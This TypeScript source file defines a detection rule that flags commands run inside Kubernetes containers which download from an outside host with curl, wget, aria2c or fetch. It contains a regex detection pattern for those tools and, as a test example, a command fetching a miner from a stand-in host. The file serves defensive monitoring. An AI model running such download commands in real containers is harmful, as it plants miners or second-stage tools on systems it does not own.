import type { Detection } from "../detection.ts";
import { execExample } from "../examples.ts";
import { commandOf, containerOf, EXEC_TARGETS, isEntered, shown } from "../facts/commands.ts";
import { whoIs } from "../facts/identities.ts";

const DOWNLOAD = /\b(?:curl|wget|aria2c|fetch)\b[^|;&]*\bhttps?:\/\/(\[[^\]]+\]|[^\s/:"']+)/i;
const OWN =
  /^(?:localhost|127\.[\d.]+|\[::1\]|0\.0\.0\.0|.*\.(?:svc|local|internal)|[^.]+|10\.[\d.]+|192\.168\.[\d.]+)$/i;

/** A command that fetches something from outside. */
export const execDownloads: Detection = {
  id: "exec-downloads",
  title: "Download by a command in a container",
  topic: "running-containers",
  severity: "high",
  why: "Tools, miners and second stages are fetched into a running container like that; its image says nothing of them.",
  response: "Look at what was fetched; replace the pod, and close its way out where it needs none.",
  falsePositives: "Somebody who tests a connection to a service outside.",
  techniques: ["T1609", "T1105"],
  targets: EXEC_TARGETS,
  detect(event) {
    const command = commandOf(event);
    if (command === "" || !isEntered(event)) return undefined;
    const host = DOWNLOAD.exec(command)?.[1];
    if (host === undefined || OWN.test(host)) return undefined;
    return {
      because: `${whoIs(event)} fetches from ${shown(host)} in ${containerOf(event)}: ${shown(command)}`,
    };
  },
  examples: {
    positive: [
      {
        title: "a program from outside",
        events: [execExample(["wget", "https://files.example/miner"])],
        detected:
          'high: mallory@example.com fetches from files.example in container "app" of pod shop/web: wget https://files.example/miner',
      },
    ],
    negative: [
      {
        title: "the health of the program itself",
        events: [execExample(["curl", "http://localhost:8080/healthz"])],
      },
    ],
  },
};
